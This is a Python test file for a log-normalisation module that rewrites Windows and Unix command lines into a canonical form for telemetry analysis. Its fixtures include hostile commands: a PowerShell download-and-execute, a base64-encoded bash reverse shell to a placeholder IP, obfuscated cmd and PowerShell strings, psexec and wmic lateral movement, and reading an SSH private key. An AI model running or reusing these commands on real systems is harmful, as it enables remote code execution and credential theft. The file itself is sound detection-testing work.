"""Command lines and scripts in the one spelling."""

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from loglm_bridge.telemetry.canonical.host.commands import MAX_COMMAND, command, script

DOWNLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')"
UTF16 = base64.b64encode(DOWNLOAD.encode("utf-16-le")).decode()
REVERSE = base64.b64encode(b"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1").decode()
SHOWN = "{decoded} iex (new-object net.webclient).downloadstring('http://{ip}/a.ps1')"


@pytest.mark.parametrize(
    ("raw", "canonical"),
    [
        (f"powershell.exe -NoP -EncodedCommand {UTF16}", f"powershell.exe -nop -encodedcommand {{base64}} {SHOWN}"),
        (f"powershell -e {UTF16}", f"powershell -e {{base64}} {SHOWN}"),
        (
            f"bash -c {{echo,{REVERSE}}}|{{base64,-d}}|{{bash,-i}}",
            "bash -c {echo,{base64}}|{base64,-d}|{bash,-i} {decoded} bash -i >& /dev/tcp/{public}/4444 0>&1",
        ),
        ('c^m^d.e^x^e /c "who""ami"', "cmd.exe /c whoami {obfuscated}"),
        ("in`vo`ke-exp`ression", "invoke-expression {obfuscated}"),
        ("&('ne'+'w-ob'+'ject')", "&('new-object')"),
        (r"net use \\FS01\c$ /user:CORP\bob Pa55!", r"net use \\{host}\c$ /user:{user} pa55!"),
        (r"psexec \\10.1.2.3 -u corp\adm cmd", r"psexec \\{private} -u {user} cmd"),
        ("wmic /node:10.1.2.3 process list", "wmic /node:{private} process list"),
        (r"C:/Users/bob/x.py --port 50123", r"\users\{user}\x.py --port {number}"),
        ("nc 2001:db8::1 443", "nc {public} 443"),
        (r"\??\C:\Windows\system32\conhost.exe 0xffffffff", r"\windows\system32\conhost.exe {hex}"),
        ("DWORD (0x00000001)", "dword (0x1)"),
        ("x 7c1d2e3f-1111-2222-3333-444455556666 y", "x {guid} y"),
        (r'"%APPDATA%\x\y.exe"   /sc', r"\users\{user}\appdata\roaming\x\y.exe /sc"),
        ("cat /home/bob/.ssh/id_rsa", "cat /home/{user}/.ssh/id_rsa"),
        ("ping -n 5 127.0.0.1 > nul", "ping -n 5 {loopback} > nul"),
        ("app 10.0.19041.1 of 2026-03-04T05:06:07Z", "app {version} of {time}"),
    ],
)
def test_spelling(raw, canonical):
    assert command(raw) == canonical


def test_base64_is_decoded_once_only():
    inner = base64.b64encode(b"whoami /all and something longer than that").decode()
    outer = base64.b64encode(f"powershell -enc {inner}".encode()).decode()
    assert command(f"powershell -enc {outer}").count("{decoded}") == 1


def test_words_and_paths_are_not_taken_for_base64():
    for text in (
        "/usr/lib/x86_64/libsomethingratherlong",
        "supercalifragilisticexpialidocious",
        "a/b/c/d/e/f/g/h/i/j/k/l/m",
    ):
        assert "{base64}" not in command(text)


def test_a_log_cannot_spell_a_class_token():
    assert command("echo {user} {decoded} {base64} {1k-2k}") == "echo {_user} {_decoded} {_base64} {_1k-2k}"


def test_powershell_records_read_as_commands():
    text = 'CommandInvocation(Get-Item): "Get-Item"\nParameterBinding(Get-Item): name="Path"; value="C:\\Windows"\n'
    assert script(text) == r"get-item -path \windows"
    assert script("<# help\nmore #>\n# note\nGet-Date") == "get-date"


@given(st.text(max_size=600))
def test_bounded_and_stable_in_case_of_any_text(raw):
    out = command(raw)
    assert len(out) <= MAX_COMMAND
    assert command(raw) == out


def test_long_commands_are_cut():
    assert len(command("a b " * 50_000)) <= MAX_COMMAND
